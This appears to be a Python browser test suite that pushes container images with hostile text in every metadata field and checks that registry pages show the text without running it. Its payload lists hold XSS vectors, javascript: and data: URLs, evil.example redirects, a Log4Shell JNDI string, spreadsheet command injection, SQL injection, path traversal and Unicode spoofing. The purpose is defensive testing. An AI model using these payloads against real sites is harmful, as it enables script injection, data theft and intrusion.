"""Texts of strangers in every field that the registry takes: pages show them, and nothing of them acts."""
import json
import urllib.parse

from checks import check, expect_equal
from images import BuiltImage
from registry import Index
from world import PROJECT

HOSTILE = f"{PROJECT}/hostile"
MARK = "window.acted = true"
MARKUP = [
    f"<script>{MARK}</script>",
    f"</script><script>{MARK}</script>",
    f"<img src=x onerror='{MARK}'>",
    f"\"><img src=x onerror=\"{MARK}\">",
    f"' autofocus onfocus='{MARK}",
    f"\" autofocus onfocus=\"{MARK}\" x=\"",
    f"<svg onload='{MARK}'></svg>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><a xlink:href='javascript:{MARK}'><text y='9'>x</text></a></svg>",
    f"<math><mtext></mtext><mglyph><style></style><img src onerror='{MARK}'></mglyph></math>",
    f"<iframe srcdoc='<script>parent.acted = true</script>'></iframe>",
    f"<iframe src='javascript:parent.acted = true'></iframe>",
    f"<object data='data:text/html,<script>{MARK}</script>'></object>",
    f"<details open ontoggle='{MARK}'>",
    f"<body onload='{MARK}'>",
    f"<style>@import 'data:text/css,*{{display:none}}';</style>",
    "<p style='position:fixed;inset:0;background:red'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
    "<link rel='stylesheet' href='https://evil.example/x.css'>",
    "<form action='https://evil.example/'><button autofocus>",
    "<title>Another title</title>",
    "</title><h1>Another heading</h1>",
    "<!-- a comment without an end",
    "<![CDATA[ x ]]>",
    "<textarea><plaintext>",
    "</bdi></code></table></main></body></html>",
    "&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp; &copy",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>",
    f"<x contenteditable onblur='{MARK}' tabindex=1>",
]
ADDRESSES = [
    f"javascript:{MARK}",
    f"JaVaScRiPt:{MARK}//https://example.com/",
    f"java\tscript:{MARK}",
    f"\x01javascript:{MARK}",
    f"data:text/html,<script>{MARK}</script>",
    f"vbscript:msgbox(1)",
    "//evil.example/path",
    "https://user:password@evil.example/",
    f"https://evil.example/\" onmouseover=\"{MARK}",
    "https://evil.example/<b>",
    "file:///etc/passwd",
]
CHARACTERS = [
    "gpj.\u202eexe.app",
    "\u2066isolated\u2069 \u202dover\u202c",
    "zero\u200bwidth\u200d\ufeff\u2060",
    "soft\u00adhyphen",
    "variant\ufe0f tag\U000e0041",
    "\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "bell\x07 back\x08space del\x7f",
    "next\u0085line \u2028 \u2029 \u009b31m",
    "one\r\ntwo\r\n\r\nSet-Cookie: a=b",
    "tab\tand\nline",
    "مرحبا بالعالم",
    "שלום app:v1 עולם",
    "映像摘要 😀 👩‍👩‍👧",
    "e\u0301 Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e",
    "раyраl (Cyrillic)",
    "x" * 5_000,
    "漢" * 3_000,
    "a b " * 1_000,
]
LANGUAGES = [
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% block main %}",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE versions; --",
    "%s%n%x %2e%2e%2f %00 %0d%0a",
    "../../../../etc/passwd",
    "null",
    "__proto__",
]
STRINGS = MARKUP + ADDRESSES + CHARACTERS + LANGUAGES


def hostile_image(text, number):
    """Returns an image that has the text in every field that a stranger can fill."""
    named = f"{number} {text}"
    config = {
        "architecture": "amd64",
        "os": "linux",
        "created": "2026-02-28T23:30:15Z",
        "author": text,
        "config": {
            "User": text, "Env": [f"X={text}"], "Entrypoint": [text], "Cmd": [text], "WorkingDir": text,
            "Labels": {"org.opencontainers.image.source": text, named: text}, "StopSignal": text,
            "ExposedPorts": {text: {}}, "Volumes": {text: {}},
        },
        "history": [{"created_by": f"RUN {text}", "comment": text}, {"comment": text, "empty_layer": True}],
    }
    return BuiltImage(config, [f"hostile {number}".encode()], annotations={
        "org.opencontainers.image.title": text, named: text,
    })


def hostile_index(image):
    """Returns an index that says each text of the image's platform."""
    platforms = ({"architecture": text, "os": text, "variant": text, "os.version": text} for text in STRINGS)
    return Index([
        image.described(platform=platform, annotations={"vnd.docker.reference.type": platform["os"]})
        for platform in platforms
    ])


def hostile_artifact(text, image):
    """Returns what is attached to the image, and says the text of its types."""
    return BuiltImage({}, [b"artifact"], layer_type=text, config_type=text, artifactType=text, subject=image.described())


def shown(text, length):
    """Returns how a page shows a text: what is not seen by its number, and its end by how much is left."""
    hidden = set("\xad\u061c\u180e\ufeff") | {
        chr(code) for low, high in ((0x7F, 0x9F), (0x200B, 0x200F), (0x2028, 0x202E), (0x2060, 0x206F), (0xFE00, 0xFE0F),
                                    (0xE0000, 0xE0FFF)) for code in range(low, high + 1)
    }

    def one(character):
        if character in "\n\t" or character not in hidden and ord(character) >= 32:
            return character
        return f"\\x{ord(character):02x}" if ord(character) < 128 else f"U+{ord(character):04X}"

    # A browser reads a carriage return as a line's end, so that the page must not have one.
    return "".join(map(one, text[:length]))


LOOK = """
const texts = [...document.querySelectorAll("bdi, code:not(:has(bdi))")].map((element) => element.textContent);
const strange = [...document.querySelectorAll("main *")].filter((element) =>
  element.matches("iframe, object, embed, base, meta, link, style, script, form:not([method]), img, math, title, textarea, [autofocus]"));
const links = [...document.querySelectorAll("a[href]")].filter(({ href }) => !href.startsWith(location.origin + "/"));
return {
  acted: "acted" in window,
  texts,
  strange: strange.map((element) => element.outerHTML.slice(0, 100)),
  links: links.map(({ href, protocol, rel }) => [href, protocol, rel]),
  headings: document.querySelectorAll("h1").length,
  wide: document.documentElement.scrollWidth > innerWidth,
};
"""


def faults_of(world, path, title, expected={}):
    """Opens a page, and returns what the texts on it have done. `expected` says how often the page shows a text."""
    world.browser.console_messages()
    browser = world.open(path)
    # A dialog that a page opens fails the next command.
    found = browser.run(LOOK)
    faults = []
    if found["acted"] or found["strange"] or found["headings"] != 1 or found["wide"]:
        faults.append(f"{({name: found[name] for name in ('acted', 'strange', 'headings', 'wide')})}")
    if title not in browser.title():
        faults.append(f"the title became {browser.title()!r}")
    for href, protocol, rel in found["links"]:
        if protocol not in ("http:", "https:") or not {"noreferrer", "nofollow", "ugc"} <= set(rel.split()):
            faults.append(f"a link to {href} with rel={rel}")
    faults += [f"console: {message}" for message in browser.console_messages()]
    for text, times in expected.items():
        if (count := found["texts"].count(text)) < times:
            faults.append(f"the page shows {text[:80]!r} {count} times, not {times}")
    return [f"{path}: {fault}" for fault in faults]


@check("texts of strangers are shown as texts, in every field of an image")
def hostile_texts(world):
    world.create_repository("hostile", description=MARKUP[0] + CHARACTERS[0])
    faults, registry = [], world.registry
    for number, text in enumerate(STRINGS):
        image = hostile_image(text, number)
        registry.push(f"{HOSTILE}/texts", image, f"t{number}")
        # A version keeps annotations of a few KiB; larger ones are in its manifest alone.
        annotated = 2 if len(text) < 1_000 else 0
        long = shown(text, 10_000)
        expected = {
            # The author, the user, the folder, ports, volumes and the signal; the values of labels and annotations.
            long: 8 + annotated,
            # The names of a label and of an annotation.
            shown(f"{number} {text}", 200): 1 + annotated // 2,
            # The entrypoint and the command.
            shown(json.dumps([text], ensure_ascii=False, separators=(",", ":")), 10_000): 2,
            shown(f"X={text}", 10_000): 1,
            shown(f"RUN {text}", 10_000): 1,
        }
        short = image.digest.removeprefix("sha256:")[:12]
        faults += faults_of(world, f"{HOSTILE}/texts@{image.digest}", short, expected)
    assert len(STRINGS) >= 60
    assert not faults, "\n".join([f"{len(faults)} faults:", *faults[:25]])


@check("so are those that an index says of a platform, and a manifest of its types")
def hostile_manifests(world):
    registry, image, refused = world.registry, hostile_image(STRINGS[0], 0), 0
    index = hostile_index(image)
    registry.push(f"{HOSTILE}/texts", index, "platforms")
    faults = faults_of(world, f"{HOSTILE}/texts@{index.digest}", "texts")
    expect_equal(len(world.browser.find_all("[aria-labelledby=platforms] tbody tr")), len(STRINGS))
    for text in STRINGS:
        made = hostile_artifact(text, image)
        for blob in made.blobs:
            registry.push_blob(f"{HOSTILE}/texts", blob)
        answer = registry.put(f"{HOSTILE}/texts", made.digest, made)
        if answer.status == 400:
            refused += 1
            continue
        answer.expect_status(201)
        faults += faults_of(world, f"{HOSTILE}/texts@{made.digest}", "texts")
    print(f"        the registry refuses {refused} of {len(STRINGS)} such types", flush=True)
    assert refused < len(STRINGS) / 2, refused
    assert not faults, "\n".join([f"{len(faults)} faults:", *faults[:25]])


@check("texts of strangers do nothing in lists, and neither do hostile addresses")
def hostile_lists(world):
    faults = []
    for path in f"{HOSTILE}/texts", f"{HOSTILE}/texts?view=versions", HOSTILE:
        faults += faults_of(world, path, HOSTILE.rpartition("/")[2] if path == HOSTILE else "texts")
    faults += faults_of(world, PROJECT, PROJECT)
    for text in STRINGS:
        quoted = urllib.parse.quote(text[:500], safe="")
        faults += faults_of(world, f"-/search?q={quoted}", "")
    for text in MARKUP[::3] + CHARACTERS[::3]:
        quoted = urllib.parse.quote(text[:500], safe="")
        for path in f"{HOSTILE}/texts?filter={quoted}", f"{HOSTILE}?filter={quoted}":
            faults += faults_of(world, path, "hostile")
    assert not faults, "\n".join([f"{len(faults)} faults:", *faults[:25]])


@check("names that are words of the console, or of the browser, are names")
def names(world):
    image = hostile_image("x", 0)
    tags = ["history", "__proto__", "constructor", "-x".strip("-") + ".-_", "a" * 128]
    for name in "history", "delete/compare", "constructor", "tags", "a/b/c/d/e/f", "x" * 128:
        world.registry.push(f"{HOSTILE}/{name}", image, *tags)
        assert not (faults := faults_of(world, f"{HOSTILE}/{name}", name)), faults
        shown_tags = world.browser.run("return [...document.querySelectorAll('tbody th a')].map((a) => a.textContent);")
        assert sorted(shown_tags) == sorted(tags), shown_tags
    world.browser.set_width(320)
    assert not (faults := faults_of(world, HOSTILE, "hostile")), faults
    world.browser.clear_width()
